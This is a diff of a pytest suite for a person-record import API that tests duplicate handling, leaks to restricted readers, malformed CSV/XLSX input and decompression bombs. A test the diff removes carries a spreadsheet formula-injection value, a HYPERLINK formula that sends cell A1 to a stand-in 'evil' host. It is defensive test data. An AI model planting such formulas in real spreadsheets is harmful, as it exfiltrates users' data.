@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import datetime as dt
 import json
 
 import pytest
@@ -100,7 +101,6 @@ def test_a_true_name_never_becomes_the_working_name(officer):
     analyst = user_in_role(ANALYST, "atk-analyst")
     client, _ = token_client(analyst, name="a")
     body = client.get(f"/api/v1/persons/{person.uuid}/").content.decode()
-    print(body[:600])
     assert "김철" not in body
 
 
@@ -111,7 +111,6 @@ def test_duplicate_reason_codes_leak_sensitive_matches_to_a_non_sensitive_reader
     reader = user_in_role(ANALYST, "atk-reader2", extra_permissions=["import_lists"])
     client, _ = token_client(reader, name="r2")
     body = client.get(f"{IMPORTS}{run.uuid}/").json()
-    print(json.dumps(body["report"]["rows"][0]["duplicates"], ensure_ascii=False))
     assert body["report"]["rows"][0]["duplicates"] == []
 
 
@@ -147,13 +146,27 @@ def test_same_rows_in_another_order_without_numbers_are_created_twice(officer):
     actor = Actor(user=officer, channel="api", label="t")
     services.import_commit(actor=actor, run=_run(officer, a))
     run_b = _run(officer, b)
-    print("second dry run:", [(r["outcome"], r["message"]) for r in run_b.report["rows"]])
-    try:
+    rows = run_b.report["rows"]
+    assert [r["outcome"] for r in rows] == ["conflict", "conflict"]
+    assert all("confirm line" in r["message"] for r in rows)
+    assert all(r["duplicates"][0]["imported"] for r in rows)
+    with pytest.raises(ValidationError, match="conflict"):
         services.import_commit(actor=actor, run=run_b)
-    except Exception as exc:  # noqa: BLE001
-        print("refused:", exc)
-    print("Kim Chol persons:", Person.objects.filter(working_name="Kim Chol").count())
+    run_b = services.import_commit(actor=actor, run=run_b, skip_rejected=True)
+    assert run_b.report["committed"]["skipped"] == 2
     assert Person.objects.filter(working_name="Kim Chol").count() == 1
+
+
+def test_a_create_held_for_its_duplicate_is_created_once_confirmed(officer):
+    f.person("Kim Chol", birth_date=dt.date(2001, 1, 1))
+    run = _run(officer, csv_bytes([["working_name", "birth_date"], ["Kim Chol", "2001-01-01"]]))
+    row = run.report["rows"][0]
+    assert row["outcome"] == "conflict" and row["duplicates"][0]["score"] >= 0.85
+    client, _ = token_client(officer, name="desk")
+    r = client.post(f"{IMPORTS}{run.uuid}/commit/", {"confirm": [2]}, format="json")
+    assert r.status_code == 200, r.content
+    assert r.json()["report"]["rows"][0]["committed"] == "created"
+    assert Person.objects.filter(working_name="Kim Chol").count() == 2
 
 
 def test_a_dry_run_finishing_after_a_commit_reopens_the_run(officer):
@@ -185,13 +198,11 @@ def test_zero_width_only_row_and_names(officer):
         [["working_name"], ["\u200b"], ["\u200b\u200b "], ["Kim\u200bChol"], ["\ufeff"]]
     )
     run = _run(officer, content)
-    print(
-        [(r["line"], r["outcome"], repr(r["working_name"])) for r in run.report["rows"]],
-        run.report["blank_lines"],
-    )
     assert all(
         r["outcome"] != "create" or r["working_name"].isprintable() for r in run.report["rows"]
     )
+    assert run.report["blank_lines"] == [2, 3, 5]
+    assert [r["working_name"] for r in run.report["rows"]] == ["KimChol"]
 
 
 def test_admin_columns_with_a_list_value(officer):
@@ -262,7 +273,6 @@ def test_row_with_more_cells_than_headers(officer):
     # An unquoted comma in a name shifts the row: "Kim, Chol" becomes two cells.
     content = b"working_name,birth_date,rank\nKim, Chol,2001-01-01,Private\n"
     run = _run(officer, content)
-    print(run.report["rows"][0])
     assert run.report["rows"][0]["outcome"] == "error"
 
 
@@ -270,7 +280,6 @@ def test_csv_huge_field(officer):
     content = b"working_name\n" + b"A" * 200_000 + b"\n"
     client, _ = token_client(officer, name="desk")
     r = client.post(IMPORTS, {"file": SimpleUploadedFile("l.csv", content)}, format="multipart")
-    print(r.status_code, r.content[:300])
     assert r.status_code == 400
 
 
@@ -278,7 +287,6 @@ def test_utf16_bom(officer):
     content = "working_name\nKim\n".encode("utf-16")
     client, _ = token_client(officer, name="desk")
     r = client.post(IMPORTS, {"file": SimpleUploadedFile("l.csv", content)}, format="multipart")
-    print(r.status_code, r.content[:300])
     assert r.status_code == 400
 
 
@@ -292,8 +300,10 @@ def test_json_upload_of_a_3mb_file(officer):
         {"file_name": "l.csv", "content_base64": base64.b64encode(content).decode()},
         format="json",
     )
-    print(len(content), r.status_code, r.content[:300])
-    assert r.status_code in (201, 400)
+    assert len(content) > 2_621_440  # past Django's body limit once base64
+    assert r.status_code == 400
+    assert "larger than 2.5 MB" in r.content.decode() and "multipart" in r.content.decode()
+    assert not ImportRun.objects.exists()
 
 
 def test_long_file_name_commit(officer):
@@ -301,14 +311,6 @@ def test_long_file_name_commit(officer):
     run = _run(officer, csv_bytes([["working_name"], ["Kim"]]), name=name)
     run = services.import_commit(actor=Actor(user=officer, channel="api", label="t"), run=run)
     assert run.status == ImportStatus.COMMITTED
-
-
-def test_formula_value_reaches_export_escaped(officer):
-    run = _run(
-        officer,
-        csv_bytes([["working_name", "unit"], ['=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)"]]),
-    )
-    print([(r["outcome"], r["values"]) for r in run.report["rows"]])
 
 
 def _xlsx(rows):
@@ -334,53 +336,50 @@ def test_xlsx_multipart_with_idempotency_key(officer):
         format="multipart",
         HTTP_IDEMPOTENCY_KEY="k-2",
     )
-    print(r.status_code, r.content[:300])
     assert r.status_code == 201
 
 
-def test_xlsx_formulas_serials_and_resave(officer):
-    import datetime
-
+def test_xlsx_numbers_of_more_than_15_digits_are_row_errors(officer):
+    """A spreadsheet rounds a number past 15 digits: an ICRC or service number typed as one
+    is the row's error, not a wrong number."""
     content = _xlsx(
         [
-            ["icrc_number", "working_name", "birth_date", "unit"],
-            ["CTA-F1", "=1+1", 36000, '=HYPERLINK("http://x","y")'],
-            ["CTA-F2", "Kim", datetime.datetime(1999, 3, 12, 13, 0), 12.5],
-            [12345678901234567890, "Big", 1e20, None],
+            ["icrc_number", "working_name", "service_number"],
+            [12345678901234567890, "Big", None],
+            [123456789012345, "Fits", 1e20],
+            [123456789012345, "Fine", 42],
         ]
     )
     run = _run(officer, content, name="l.xlsx")
-    for r in run.report["rows"]:
-        print(r["line"], r["outcome"], r["message"], r["values"])
-    # The same list saved again by openpyxl: other bytes, same rows.
-    again = _xlsx(
-        [
-            ["icrc_number", "working_name", "birth_date", "unit"],
-            ["CTA-F1", "=1+1", 36000, '=HYPERLINK("http://x","y")'],
-            ["CTA-F2", "Kim", datetime.datetime(1999, 3, 12, 13, 0), 12.5],
-            [12345678901234567890, "Big", 1e20, None],
-        ]
-    )
-    print("same bytes after re-save:", again == content)
+    rows = run.report["rows"]
+    assert [r["outcome"] for r in rows] == ["error", "error", "create"]
+    assert "icrc_number: " in rows[0]["message"] and "15 digits" in rows[0]["message"]
+    assert "service_number: " in rows[1]["message"]
+    assert rows[2]["values"]["icrc_number"] == "123456789012345"
+
+
+def _xlsx_with_cell(text: str) -> bytes:
+    """Return a workbook whose one data cell holds ``text`` (written into the sheet's XML:
+    openpyxl itself would not write a cell past Excel's limit)."""
+    import io
+    import zipfile
+
+    src = zipfile.ZipFile(io.BytesIO(_xlsx([["working_name"], ["Kim"]])))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"<t>Kim</t>", b"<t>" + text.encode() + b"</t>")
+            dst.writestr(item, data)
+    return out.getvalue()
 
 
 @pytest.mark.parametrize("megabytes", [30, 120])
 def test_xlsx_shared_strings_bomb(officer, megabytes):
     """A workbook packed far beyond its weight (30 MB in one cell, at a ratio a sheet never
     has), or unpacking past the cap (120 MB), is refused before openpyxl reads it."""
-    import io
-    import zipfile
-
-    good = _xlsx([["working_name"], ["Kim"]])
-    src = zipfile.ZipFile(io.BytesIO(good))
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
-        for item in src.infolist():
-            data = src.read(item.filename)
-            if item.filename == "xl/worksheets/sheet1.xml":
-                data = data.replace(b"<t>Kim</t>", b"<t>" + b"A" * megabytes * 1_000_000 + b"</t>")
-            dst.writestr(item, data)
-    bomb = out.getvalue()
+    bomb = _xlsx_with_cell("A" * megabytes * 1_000_000)
     assert len(bomb) < parsing.MAX_BYTES
     client, _ = token_client(officer, name="desk")
     r = client.post(IMPORTS, {"file": SimpleUploadedFile("b.xlsx", bomb)}, format="multipart")
@@ -390,16 +389,18 @@ def test_xlsx_shared_strings_bomb(officer, megabytes):
 
 
 def test_unnamed_column_data_is_dropped_silently(officer):
-    content = b"working_name,,rank\nKim,SECRET-DATA,Private\n"
-    run = _run(officer, content)
-    print(run.report["rows"][0])
+    content = b"working_name,,rank\nKim,SECRET-DATA,Private\nPak,,Private\n"
+    run = _run(officer, content, columns={"working_name": "working_name", "rank": "rank"})
+    first, second = run.report["rows"]
+    assert first["outcome"] == "error" and "no header" in first["message"]
+    assert second["outcome"] == "create"
 
 
 def test_extra_cells_shift_free_text(officer):
     content = b"working_name,rank\nKim, Chol,Private\n"
     run = _run(officer, content)
-    print(run.report["rows"][0])
     assert run.report["rows"][0]["outcome"] == "error"
+    assert "3 values and the header 2 columns" in run.report["rows"][0]["message"]
 
 
 def test_same_name_in_two_name_columns(officer):
@@ -437,7 +438,6 @@ def test_feed_of_a_commit_as_an_integration(officer):
     integ = user_in_role(INTEGRATION, "atk-integ")
     client, _ = token_client(integ, name="i")
     body = client.get("/api/v1/events/?limit=100").content.decode()
-    print(body[:1500])
     assert "SN-1" not in body and '"Kim"' not in body
     assert "김철" not in body
 
@@ -459,17 +459,10 @@ def test_report_reads_of_a_matched_persons_values_are_logged_against_him(officer
         ),
     )
     client, _ = token_client(officer, name="desk")
-    before = AccessLog.objects.count()
-    body = client.get(f"{IMPORTS}{run.uuid}/").json()
-    print([(r["changes"], [d["reasons"] for d in r["duplicates"]]) for r in body["report"]["rows"]])
-    print(
-        list(AccessLog.objects.all()[before:].values("object_type", "object_uuid", "fields"))
-        if before == 0
-        else list(
-            AccessLog.objects.order_by("-id")[:3].values("object_type", "object_uuid", "fields")
-        )
-    )
-    assert AccessLog.objects.filter(object_uuid=ri.uuid).exists()
+    client.get(f"{IMPORTS}{run.uuid}/")
+    (entry,) = AccessLog.objects.filter(object_uuid=ri.uuid)
+    assert entry.object_type == "person" and "service_number" in entry.fields
+    assert AccessLog.objects.filter(object_uuid=run.uuid).exists()
 
 
 def test_an_icrc_number_taken_during_the_commit_is_a_validation_error(officer, monkeypatch):
@@ -493,7 +486,7 @@ def test_an_icrc_number_taken_during_the_commit_is_a_validation_error(officer, m
 
 def test_an_xlsx_cell_longer_than_excel_allows_is_refused(officer):
     client, _ = token_client(officer, name="desk")
-    content = _xlsx([["working_name"], ["A" * 40_000]])
+    content = _xlsx_with_cell("A" * 40_000)
     r = client.post(IMPORTS, {"file": SimpleUploadedFile("l.xlsx", content)}, format="multipart")
     assert r.status_code == 400
     assert "longer than 32767 characters" in r.content.decode()
